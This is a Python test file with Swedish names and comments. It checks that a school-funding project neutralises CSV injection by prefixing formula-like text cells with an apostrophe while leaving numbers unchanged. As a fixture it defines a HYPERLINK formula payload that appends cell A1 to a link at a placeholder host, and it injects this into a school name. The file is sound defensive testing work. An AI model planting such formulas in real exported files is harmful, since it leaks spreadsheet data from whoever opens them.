"""CSV-injektion (fynd 5; OWASP, CSV Injection): varje CSV-fil som projektet skriver
går genom ``skolpeng.csvskrivning``, där en textcell som börjar med ``=``, ``+``, ``-``, ``@``,
tabb eller vagnretur får en apostrof först. Tal – även negativa, och text som bara är ett tal
– ändras inte."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import shutil
from pathlib import Path

import polars as pl

from skolpeng.data import hitta_underlag, las_underlag
from skolpeng.fordelning.korning import berakna_fordelning
from skolpeng.fordelning.modellfil.schema import las_modell_text
from skolpeng.rapporter.fordelning.utdata import skriv_fordelning_utdata

ROT = Path(__file__).resolve().parents[2]
MODELL = ROT / "src" / "skolpeng" / "modeller" / "goteborg_typ.yaml"
ENHET = "10245367"  # Svartedalsskolan 4-9, Göteborg
ELAK = '=HYPERLINK("http://exempel.invalid/?"&A1,"Klicka")'


def test_ingen_modul_skriver_csv_forbi_den_gemensamma_skrivaren() -> None:
    """``write_csv`` anropas bara i ``csvskrivning.py`` (en ny skrivare måste gå via den)."""
    anrop = [
        f"{p.relative_to(ROT)}:{nr}"
        for p in sorted((ROT / "src").rglob("*.py"))
        if p.name != "csvskrivning.py"
        for nr, rad in enumerate(p.read_text(encoding="utf-8").splitlines(), start=1)
        if re.search(r"\.write_csv\(|csv\.writer\(|DictWriter\(", rad)
    ]
    assert anrop == []


def test_neutraliseringen_cell_for_cell() -> None:
    from skolpeng.csvskrivning import neutralisera_tabell

    ram = pl.DataFrame(
        {
            "text": [
                "=1+1",
                "+46 70",
                "-5",
                "-1,5",
                "@SUM(A1)",
                "\tx",
                "\rx",
                "-x",
                "vanlig",
                None,
            ],
            "tal": [-5.0, -1.5, 0.0, 1.0, -1e9, 2.0, 3.0, 4.0, 5.0, None],
        }
    )
    ut = neutralisera_tabell(ram)
    assert ut["text"].to_list() == [
        "'=1+1", "'+46 70", "-5", "-1,5", "'@SUM(A1)", "'\tx", "'\rx", "'-x", "vanlig", None
    ]  # fmt: skip
    assert ut["tal"].to_list() == ram["tal"].to_list()


def test_skolenhetens_namn_med_formel_blir_text_i_beslutets_filer(tmp_path: Path) -> None:
    data = tmp_path / "data"
    shutil.copytree(hitta_underlag("sverige"), data)
    skolenheter = data / "skolenheter.csv"
    text = skolenheter.read_text(encoding="utf-8")
    rad = next(r for r in text.splitlines() if r.startswith(ENHET + ","))
    namn = rad.split(",")[1]
    skolenheter.write_text(text.replace(rad, rad.replace(namn, f'"{ELAK.replace(chr(34), 2 * chr(34))}"')),
                           encoding="utf-8")  # fmt: skip
    modelltext = MODELL.read_text(encoding="utf-8")
    modellfil = tmp_path / "modell.yaml"
    modellfil.write_text(modelltext, encoding="utf-8")
    korning = berakna_fordelning(las_modell_text(modelltext), las_underlag(data))
    ut = tmp_path / "ut"
    skriv_fordelning_utdata(dataclasses.replace(korning, modellfil=modellfil), ut, {}, pdf=False)
    hittade = {}
    for fil in sorted(ut.glob("*.csv")):
        for r in csv.DictReader(io.StringIO(fil.read_text(encoding="utf-8"))):
            for kolumn, varde in r.items():
                assert not (varde or "").startswith(("=", "@", "\t", "\r")), (fil.name, kolumn)
                if varde == "'" + ELAK:
                    hittade[fil.name] = kolumn
                if kolumn in ("belopp_kr", "forandring_kr") and varde.startswith("'"):
                    raise AssertionError(f"talet i {fil.name} ändrades: {varde}")
    assert "underlag_enheter.csv" in hittade
